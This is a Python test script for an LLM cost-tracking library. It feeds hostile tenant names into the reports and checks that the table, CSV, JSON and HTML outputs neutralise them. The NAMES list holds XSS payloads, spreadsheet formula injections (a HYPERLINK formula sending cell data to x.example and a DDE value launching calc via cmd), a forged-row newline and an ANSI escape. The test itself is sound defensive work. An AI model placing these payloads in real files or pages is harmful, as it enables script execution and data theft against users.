"""From the wheel: hostile tenant/feature/route/model names through the CLI reports (table,
CSV, JSON) and the HTML report, read back as a browser and a spreadsheet would."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

from llm_cost_hooks._records import CostRecord
from llm_cost_hooks.ledger import SQLiteLedger

NAMES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "' onmouseover='alert(3)",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB=1",
    "acme\nforged row,1,2",
    "$\\frac{1}{0}$ $x",
    "\x1b[31mred",
    "_hidden",
]
ledger = SQLiteLedger("hostile.db")
for i, name in enumerate(NAMES):
    ledger.write(
        CostRecord(
            model="gpt-4o-mini",
            tenant=name,
            feature=name,
            route=name,
            input_tokens=10 + i,
            cost_usd=0.001 * (i + 1),
        )
    )
ledger.flush()
ledger.close()

problems = []


def cli(*args: str) -> str:
    out = subprocess.run([sys.executable, "-m", "llm_cost_hooks.cli", *args], capture_output=True, text=True)
    if out.returncode:
        problems.append(f"llm-cost {' '.join(args)} exited {out.returncode}: {out.stderr[-300:]}")
    return out.stdout


table = cli("report", "hostile.db", "--by", "tenant")
if "\x1b" in table:
    problems.append("table: raw escape sequence")
if any(line.startswith("forged row") for line in table.splitlines()):
    problems.append("table: a name started a row of its own")

text = cli("report", "hostile.db", "--by", "tenant", "--format", "csv")
for row in csv.DictReader(io.StringIO(text)):
    cell = row["tenant"]
    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
        problems.append(f"csv: formula cell {cell!r}")
rows = json.loads(cli("report", "hostile.db", "--by", "tenant", "--format", "json"))["totals"]
if sorted(r["tenant"] for r in rows) != sorted(NAMES):
    problems.append("json: names not kept whole")

cli("report", "hostile.db", "--by", "tenant", "--html", "report.html")
page = Path("report.html").read_text(encoding="utf-8")


class Walk(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.handlers: list[str] = []
        self.imgs_not_data: list[str] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self.scripts += 1
        for k, v in attrs:
            if k.startswith("on"):
                self.handlers.append(f"{tag} {k}={v}")
            if tag == "img" and k == "src" and not (v or "").startswith("data:image/png;base64,"):
                self.imgs_not_data.append(v or "")

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


walk = Walk()
walk.feed(page)
if walk.scripts:
    problems.append(f"html: {walk.scripts} <script> elements")
if walk.handlers:
    problems.append(f"html: event handlers {walk.handlers}")
if walk.imgs_not_data:
    problems.append(f"html: images from elsewhere {walk.imgs_not_data}")
shown = "".join(walk.texts)
for name in ("<script>alert(1)</script>", '"><img src=x onerror=alert(2)>'):
    if name not in shown:
        problems.append(f"html: {name!r} not shown as text")
print(f"names={len(NAMES)} html_bytes={len(page)} csv_rows={len(text.splitlines()) - 1}")
print("problems:", problems or "none")
sys.exit(1 if problems else 0)
